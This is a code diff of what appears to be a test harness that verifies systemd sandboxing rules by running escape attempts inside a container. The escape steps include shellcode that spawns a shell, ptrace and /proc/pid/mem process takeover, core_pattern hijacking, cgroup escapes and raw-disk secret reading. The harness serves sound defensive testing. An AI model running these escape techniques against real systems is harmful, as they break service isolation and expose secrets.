@@ -18,8 +18,8 @@ reached is checked from outside. The unit is run
 - with every protection of `undoes` that leaves the way open: all of them must be undone ("all its protections").
 
 Examples, `undoes` and `closes` are read from the rules, so that model and proof cannot drift apart. The exit status is 1 if
-a single result differs from the model. The steps try more than one door each, so that a line which closes only the door
-that the rule names is found out.
+a single result differs from the model. Where there are several calls for a step, each is tried, so that a line which stops
+only one of them is found out. Lines that this systemd does not know are left out.
 
 The container has the capabilities that systemd-nspawn gives by default and no filter of system calls. Not shown here:
 escape-module and escape-raw-io, whose effect is on the kernel of the machine. Of escape-kernel-helper it is shown that
@@ -78,7 +78,7 @@ def attempt(step, *args):
     child = os.fork()
     if child == 0:
         try:
-            signal.alarm(10)
+            signal.alarm(60)
             step(*args)
         except BaseException as e:
             say(f"- {step.__name__}{args}: {type(e).__name__} {e}")
@@ -225,30 +225,48 @@ def escape_kernel_helper():
     attempt(write_again, "/proc/sys/kernel/core_pattern")
 
 
-def cgroup_write(group):
-    (Path(group) / "cgroup.procs").write_text(str(os.getpid()))
-    say("moved", Path("/proc/self/cgroup").read_text().split("::")[-1].strip())
+def group_of(process="self"):
+    return Path(f"/proc/{process}/cgroup").read_text().split("::")[-1].strip()
+
+
+def moved(before):
+    """Seen from one control group namespace: there the group of the service itself may be called / already."""
+    if group_of() != before:
+        say("moved", before, group_of())
     fetch()
+
+
+def cgroup_write(group):
+    before = group_of()
+    (Path(group) / "cgroup.procs").write_text(str(os.getpid()))
+    moved(before)
 
 
 def cgroup_clone(group):
     """clone3() with CLONE_INTO_CGROUP takes a directory: nothing is opened for writing."""
+    before = group_of()
     fd = os.open(group, os.O_PATH | os.O_DIRECTORY)
     clone_args = struct.pack("11Q", 0x200000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, fd)
     child = syscall(435, clone_args, 88)
     if child == 0:
         try:
-            say("moved", Path("/proc/self/cgroup").read_text().split("::")[-1].strip())
-            fetch()
+            moved(before)
         finally:
             os._exit(0)
     os.waitpid(child, 0)
 
 
+GROUPS = ("/sys/fs/cgroup", "/sys/fs/cgroup/init.scope", "/sys/fs/cgroup/system.slice/dbus.service")
+
+
 def escape_cgroup():
-    for step in (cgroup_write, cgroup_clone):
-        for group in ("/sys/fs/cgroup", "/sys/fs/cgroup/init.scope", "/sys/fs/cgroup/system.slice/dbus.service"):
-            attempt(step, group)
+    for group in GROUPS:
+        attempt(cgroup_write, group)
+
+
+def escape_cgroup_clone():
+    for group in GROUPS:
+        attempt(cgroup_clone, group)
 
 
 def by_handle(mount, name):
@@ -290,7 +308,7 @@ def code():
     words = [b"/bin/sh\0", b"-c\0", f"exec {ME} outside\0".encode()]
     head = bytes.fromhex("90909090" "e800000000" "5b")  # nop...; call next; next: pop rbx
     base = 9  # rbx is the address of `pop rbx`
-    body_length = 7 * 4 + 2 + 1 + 1 + 1 + 3 + 2 + 2 + 5 + 2
+
     def body(offsets):
         out = b""
         for n, at in enumerate(offsets):  # lea rdi|rcx|rdx, [rbx+at]
@@ -299,7 +317,7 @@ def code():
         out += b"\x6a\x00\x52\x51\x57"          # push 0, rdx, rcx, rdi
         out += b"\x48\x89\xe6\x31\xd2"          # mov rsi, rsp; xor edx, edx
         return out + b"\xb8\x3b\x00\x00\x00\x0f\x05"  # mov eax, 59; syscall
-    del body_length
+
     start = len(head) + len(body([0, 0, 0])) - base
     offsets, at = [], start
     for word in words:
@@ -344,9 +362,13 @@ def take_by_file():
 
 
 def escape_ptrace():
-    for step in (take_by_ptrace, take_by_file):
-        attempt(step)
-        time.sleep(0.5)
+    attempt(take_by_ptrace)
+    time.sleep(0.5)
+
+
+def escape_proc_mem():
+    attempt(take_by_file)
+    time.sleep(0.5)
 
 
 CODE = {"x86_64": "b82a000000c3", "aarch64": "40058052c0035fd6"}  # return 42
@@ -375,23 +397,15 @@ def execute_memfd():
     execute(fd)
 
 
-def execute_file(folder):
-    fd, name = tempfile.mkstemp(dir=folder)
-    os.unlink(name)
-    os.write(fd, bytes.fromhex(CODE[os.uname().machine]))
-    execute(fd)
-
-
 def escape_write_execute():
     attempt(anonymous)
     attempt(execute_memfd)
-    for folder in ("/tmp", "/dev/shm", "/run", "/root"):
-        attempt(execute_file, folder)
 
 
 def raw_disk(device):
     """Finds the secrets among the blocks, and changes what must not change."""
     fd = os.open(device, os.O_RDWR)
+    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)  # what was read before may be old
     size, step, at = os.lseek(fd, 0, 2), 1 << 22, 0
     while at < size:
         block = os.pread(fd, step, at)
@@ -418,8 +432,7 @@ def escape_raw_disk():
 
 
 def escape_setuid():
-    for program in ("/usr/local/bin/setuid-cat",):
-        attempt(shown, program, READ["ProtectHome"])
+    attempt(shown, "/usr/local/bin/setuid-cat", READ["ProtectHome"])
 
 
 def shown(*command):
@@ -428,8 +441,7 @@ def shown(*command):
 
 
 def escape_packet():
-    for protocol, ports in ((0x0800, (9,)),):
-        attempt(send_frame, protocol, ports[0])
+    attempt(send_frame, 0x0800, 9)
 
 
 def send_frame(protocol, port):
@@ -657,17 +669,17 @@ class Judge:
         self.c.inner("/srv/told").write_text(token)
         (self.c.work / "heard").write_text("")
         self.c.inner(PROOF).unlink(missing_ok=True)
-        text = text.replace("ExecStart=/usr/bin/foo", f"Type=oneshot\nTimeoutStartSec=60\nStandardOutput=file:{OUTPUT}\n"
+        text = text.replace("ExecStart=/usr/bin/foo", f"Type=oneshot\nTimeoutStartSec=150\nStandardOutput=file:{OUTPUT}\n"
                             f"StandardError=journal\nExecStart={ME} {rule}")
         self.c.inner(f"/run/systemd/system/{unit}").write_text(text)
         self.c.inner(OUTPUT).unlink(missing_ok=True)
         self.c.must("rm -rf /etc/systemd/system/escape-other.service.d /run/systemd/system/escape-other.service.d "
                     "/usr/local/lib/systemd/system/escape-other.service.d; systemctl daemon-reload; sync")
-        if rule == "escape-ptrace":
+        if rule in ("escape-ptrace", "escape-proc-mem"):
             for n in (98765, 98766):
                 self.c.must(f"systemctl stop sleeper{n} 2>/dev/null; systemd-run -q --collect --unit=sleeper{n} /usr/bin/sleep {n}")
             time.sleep(0.3)
-        started = self.c.sh(f"systemctl start {unit}")
+        started = self.c.sh(f"systemctl start {unit}", 200)
         if rule == "escape-unit-files":  # as a timer, an administrator or the next boot would
             self.c.must("systemctl start escape-other.service; systemctl stop escape-other.service")
         out = self.c.inner(OUTPUT).read_text() if self.c.inner(OUTPUT).exists() else ""
@@ -680,6 +692,12 @@ class Judge:
             print(f"--- {rule} {state}\n{text}\n{out}{done}", file=sys.stderr)
         return done, out
 
+    def knows(self, text):
+        """Whether this systemd knows every setting of a unit."""
+        self.c.inner("/run/escape-known.service").write_text(text.replace("/usr/bin/foo", "/usr/bin/true"))
+        said = self.c.sh("systemd-analyze verify --man=no /run/escape-known.service 2>&1").stdout
+        return not re.search(r"escape-known.service:\d+: .*(Unknown|Failed to parse|ignoring)", said)
+
     def undone(self, rule, unit, text, out, token):
         keys = [l.split("=")[0] for l in text.splitlines() if re.match(r"\w+=", l)]
         try:
@@ -688,14 +706,14 @@ class Judge:
             proof = {}
         free = bool(proof) and all(proof[k] == self.first[k] for k in ("mnt", "net", "ipc", "CapBnd", "Seccomp_filters")) \
             and proof["Uid"].split()[0] == "0" and unit not in proof["cgroup"]
-        moved = any(l.startswith("moved ") and unit not in l for l in out.splitlines())
+        moved = any(l.startswith("moved ") for l in out.splitlines())
         got = {}
         for key in keys:
-            if rule in ("escape-manager", "escape-unit-files", "escape-ptrace"):
+            if rule in ("escape-manager", "escape-unit-files", "escape-ptrace", "escape-proc-mem"):
                 got[key] = free
             elif rule == "escape-kernel-helper":
                 got[key] = "fetched core_pattern" in out
-            elif rule == "escape-cgroup":
+            elif rule in ("escape-cgroup", "escape-cgroup-clone"):
                 got[key] = moved and (key != "IPAddressDeny" or f"fetched {token}" in out)
             elif rule == "escape-packet":
                 got[key] = (self.c.work / "heard").read_text() == token
@@ -720,18 +738,8 @@ def expected_keys(model, text):
 def all_protections(model):
     """A unit with every protection that the way takes back and that is no condition of the way itself."""
     closing = {c.split("=")[0] for c in model["closes"]} | {c.lstrip("!@").split("=")[0] for c in model["by"]}
-    lines = [f"{k}={STRONG[k]}" for k in model["undoes"] if k in STRONG and k not in closing and k not in model.get("keep_off", ())]
+    lines = [f"{k}={STRONG[k]}" for k in model["undoes"] if k in STRONG and k not in closing]
     return "[Service]\nExecStart=/usr/bin/foo\n" + "\n".join(lines) + "\n"
-
-
-# Protections of `undoes` that would close the way by accident of the steps taken here, or that imply another condition.
-KEEP_OFF = {
-    "escape-manager": {"RestrictAddressFamilies": "AF_UNIX is needed and given"},
-    "escape-kernel-helper": {"ProtectKernelTunables": "closes"},
-    "escape-ptrace": {"CapabilityBoundingSet": "", "SystemCallFilter": ""},
-    "escape-unit-files": {"ProtectSystem": ""},
-    "escape-setns": {"ReadOnlyPaths": ""},
-}
 
 
 def main():
@@ -763,13 +771,16 @@ def main():
             marked = [e["text"] for e in model["example"] if f"#~ {rule}" in e["text"]]
             silent = [e["text"] for e in model["example"] if f"#~ {rule}" not in e["text"]]
             tries = [("undone", f"example {n + 1}", t) for n, t in enumerate(marked)]
-            everything = all_protections({**check, "keep_off": KEEP_OFF.get(rule, {})})
+            everything = all_protections(check)
             if len(everything.splitlines()) > 3:
                 tries.append(("undone", "all its protections", everything))
             tries += [("holds", line, marked[0].rstrip("\n") + f"\n{line}\n") for line in check["closes"]]
             tries += [("holds", "silent: " + " ".join(l for l in t.splitlines()[2:]), t) for t in silent]
             for want, name, text in tries:
                 text = "".join(l + "\n" for l in text.splitlines() if not l.startswith("#~"))
+                if not judge.knows(text):
+                    print(f"{rule:22} {name[:76]:76} not known to this systemd")
+                    continue
                 done, out = judge.run(rule, text)
                 keys = [k for k in expected_keys(check, text) if k in done]
                 taken = [k for k in keys if done[k]]
